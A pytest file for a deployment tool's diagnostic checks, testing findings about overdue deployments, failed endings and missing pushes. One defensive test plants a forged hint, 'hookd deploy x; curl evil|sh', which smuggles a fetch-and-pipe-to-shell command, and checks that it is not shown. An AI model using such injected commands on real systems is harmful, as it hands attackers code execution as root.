"""Overdue deployments, the last ending and the last push."""

from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from hookd.model.deployment import Deployment, Status, Trigger
from tests.support.apps import app
from units.doctor.checks.queue import check_last_deployment, check_last_push, check_overdue
from units.doctor.finding import Finding

NOW = datetime(2026, 8, 1, 12, tzinfo=UTC)


def record(status: Status, minutes: float, trigger: Trigger = Trigger.PUSH, **more: Any) -> Deployment:
    at = NOW - timedelta(minutes=minutes)
    name = f"shop-20260801T120000000-{int(minutes * 10):06x}"
    return Deployment(id=name, app="shop", trigger=trigger, status=status, created_at=at, **more)


def levels(found: list[Finding]) -> list[str]:
    return [one.level for one in found]


@pytest.mark.parametrize(
    ("history", "expected"),
    [
        ([], []),
        ([record(Status.QUEUED, 1)], []),
        ([record(Status.QUEUED, 6)], ["error"]),
        ([record(Status.QUEUED, 6), record(Status.RUNNING, 7)], []),
        ([record(Status.QUEUED, 40), record(Status.RUNNING, 41)], ["error", "error"]),
        ([record(Status.SUCCEEDED, 9000)], []),
    ],
)
def test_overdue_deployments_are_errors(history: list[Deployment], expected: list[str]) -> None:
    found = list(check_overdue(app(), history, NOW, "sudo systemctl restart hookd-worker@1.service"))
    assert levels(found) == expected
    assert all("hookd-worker@1.service" in (one.hint or "") for one in found)


@pytest.mark.parametrize(
    ("history", "expected"),
    [
        ([], []),
        ([record(Status.SUCCEEDED, 1), record(Status.FAILED, 2)], []),
        ([record(Status.FAILED, 1, cause="it does not import"), record(Status.SUCCEEDED, 2)], ["warning"]),
        ([record(Status.ROLLED_BACK, 1)], ["warning"]),
        ([record(Status.ROLLBACK_FAILED, 1)], ["error"]),
        ([record(Status.RUNNING, 1), record(Status.SUPERSEDED, 2), record(Status.FAILED, 3)], ["warning"]),
    ],
)
def test_failed_ending_is_reported(history: list[Deployment], expected: list[str]) -> None:
    found = list(check_last_deployment(app(), history))
    assert levels(found) == expected
    assert all("hookd logs shop-" in (one.hint or "") for one in found)


@pytest.mark.threat(65)
def test_forged_hint_is_not_shown() -> None:
    """An attacker in the receiver can forge a record, and root types the doctor's hints."""
    forged = {"kind": "hookd deploy x; curl evil|sh"}
    (found,) = check_last_deployment(app(), [record(Status.FAILED, 1, cause="it does not import", hint=forged)])
    assert found.message == "the last deployment ended failed: it does not import"
    assert found.hint == "sudo hookd logs shop-20260801T120000000-00000a; sudo hookd deploy shop"


def test_missing_push_is_a_warning() -> None:
    by_hand = [record(Status.SUCCEEDED, 5, Trigger.MANUAL)]
    found = check_last_push(app(), by_hand, "http://host/hooks/shop", NOW, "sudo hookd app show shop")
    assert (found.level, found.hint) == ("warning", "sudo hookd app show shop")
    assert found.message.endswith(" at http://host/hooks/shop")
    found = check_last_push(app(), [*by_hand, record(Status.SUCCEEDED, 3 * 60)], "", NOW, "")
    assert (found.level, found.message) == ("ok", "the last push of shop arrived 3 h ago")
